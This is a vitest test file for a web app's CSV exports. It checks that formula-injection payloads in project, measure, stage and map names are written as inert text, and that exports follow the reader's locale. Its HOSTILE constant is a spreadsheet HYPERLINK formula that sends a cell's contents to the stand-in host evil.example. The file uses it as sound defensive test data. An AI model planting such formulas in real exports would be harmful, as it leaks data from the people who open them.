// Every CSV export neutralises cells a spreadsheet would run as formulas (names typed by any editor),
// while the numbers stay numbers and the KPI export still imports back.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import * as projectCsv from '~/routes/w.$slug.projects.$projectId.csv';
import * as summaryCsv from '~/routes/w.$slug.summary.csv';
import * as kpiExport from '~/routes/w.$slug.kpis.export';
import * as kpiImport from '~/routes/w.$slug.kpis.import/route';
import * as kpiTemplate from '~/routes/w.$slug.kpis.template';
import { call, makeUser, makeWorkspace, request, type TestUser } from '../support/factories';
import { makeKpi, makeMapWithStages, makeMeasure, makeProject } from '../support/project-fixtures';

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

async function setup() {
  const owner = await makeUser();
  const ws = await makeWorkspace(owner);
  const { map, stages, lane } = await makeMapWithStages(ws.id, ['+Stage'], { name: HOSTILE });
  const measure = await makeMeasure(ws.id, { name: HOSTILE, unit: '@unit', trend: 'down', valueAmount: '1000', valueStep: '1' });
  const kpi = await makeKpi(
    ws.id,
    { mapId: map.id, laneId: lane.id, stageId: stages[0]!.id, measureId: measure.id },
    { target: '-20', values: [['2025-01-31', '-12.5']] },
  );
  const project = await makeProject(ws.id, { name: HOSTILE, costs: [{ kind: 'one_off', amount: '500' }], links: [{ kpiId: kpi.id }] });
  return { owner, ws, kpi, project };
}

async function csvOf(loader: Parameters<typeof call>[0], path: string, user: TestUser, params: Record<string, string>) {
  const res = await call(loader, { request: request(path, { user }), params });
  expect(res.status).toBe(200);
  const text = String(res.data).replace(/^\uFEFF/, '');
  return { text, cells: Papa.parse<string[]>(text, { skipEmptyLines: true }).data };
}

/** No cell may start a formula, except plain numbers such as -12.5. */
function expectNoLiveFormula(cells: string[][]) {
  for (const row of cells) {
    for (const cell of row) {
      if (/^-?\d+(\.\d+)?$/.test(cell)) continue;
      expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
    }
  }
}

describe('CSV exports and formula injection', () => {
  it('the summary writes a hostile project name as text', async () => {
    const { owner, ws } = await setup();
    const { cells } = await csvOf(summaryCsv.loader, `/w/${ws.slug}/summary/csv`, owner, { slug: ws.slug });
    expect(cells.flat()).toContain(`'${HOSTILE}`);
    expectNoLiveFormula(cells);
  });

  it('the business case writes hostile project, measure, stage and map names as text; numbers stay numbers', async () => {
    const { owner, ws, project } = await setup();
    const { cells } = await csvOf(projectCsv.loader, `/w/${ws.slug}/projects/${project.id}/csv`, owner, { slug: ws.slug, projectId: project.id });
    const flat = cells.flat();
    expect(flat).toContain(`'${HOSTILE}`);
    expect(flat).toContain(`'${HOSTILE} @ +Stage`);
    expect(flat.some((c) => /^-\d/.test(c))).toBe(true); // the cost year's negative net, written as a number
    expectNoLiveFormula(cells);
  });

  it('the KPI template and export write hostile names as text, keep negative values, and import back unchanged', async () => {
    const { owner, ws, kpi } = await setup();
    const template = await csvOf(kpiTemplate.loader, `/w/${ws.slug}/kpis/template`, owner, { slug: ws.slug });
    const exported = await csvOf(kpiExport.loader, `/w/${ws.slug}/kpis/export`, owner, { slug: ws.slug });
    for (const { cells } of [template, exported]) {
      const [header, row] = cells;
      const record = Object.fromEntries(header!.map((h, i) => [h, row![i]]));
      expect(record).toMatchObject({ kpi_id: kpi.id, map: `'${HOSTILE}`, stage: "'+Stage", measure: `'${HOSTILE}`, unit: "'@unit" });
      expect(record.target).toMatch(/^-20(\.0+)?$/);
      expectNoLiveFormula(cells);
    }
    const exportedRecord = Object.fromEntries(exported.cells[0]!.map((h, i) => [h, exported.cells[1]![i]]));
    expect(exportedRecord.value).toMatch(/^-12\.50*$/);
    const form = new FormData();
    form.set('intent', 'preview');
    form.set('file', new File([exported.text], 'values.csv', { type: 'text/csv' }));
    const preview = await call(kpiImport.action, { request: request(`/w/${ws.slug}/kpis/import`, { user: owner, body: form }), params: { slug: ws.slug } });
    expect(preview.status).toBe(200);
    expect(preview.data.preview).toMatchObject({ created: 0, updated: 0, unchanged: 1 });
  });
});

describe("CSV exports in the reader's locale", () => {
  it('a French reader gets ";" columns, French headers and comma decimals; an English reader "," and dots', async () => {
    const { ws, project } = await setup();
    const french = await makeUser({ locale: 'fr' });
    const english = await makeUser({ locale: 'en' });
    const { addMember } = await import('../support/factories');
    await addMember(ws.id, french, 'viewer');
    await addMember(ws.id, english, 'viewer');
    const params = { slug: ws.slug, projectId: project.id };
    const path = `/w/${ws.slug}/projects/${project.id}/csv`;
    const fr = await call(projectCsv.loader, { request: request(path, { user: french }), params });
    const en = await call(projectCsv.loader, { request: request(path, { user: english }), params });
    const frText = String(fr.data);
    const frCells = Papa.parse<string[]>(frText.replace(/^\uFEFF/, ''), { delimiter: ';', skipEmptyLines: true }).data;
    const enCells = Papa.parse<string[]>(String(en.data).replace(/^\uFEFF/, ''), { delimiter: ',', skipEmptyLines: true }).data;
    // Same table, one cell per column in both files.
    expect(frCells.map((r) => r.length)).toEqual(enCells.map((r) => r.length));
    expect(frCells[0]![0]).not.toBe(enCells[0]![0]);
    const decimals = (cells: string[][]) => cells.flat().filter((c) => /^-?\d+[.,]\d+$/.test(c));
    expect(decimals(frCells).length).toBeGreaterThan(0);
    expect(decimals(frCells).every((c) => c.includes(','))).toBe(true);
    expect(decimals(enCells).every((c) => c.includes('.'))).toBe(true);
  });
});
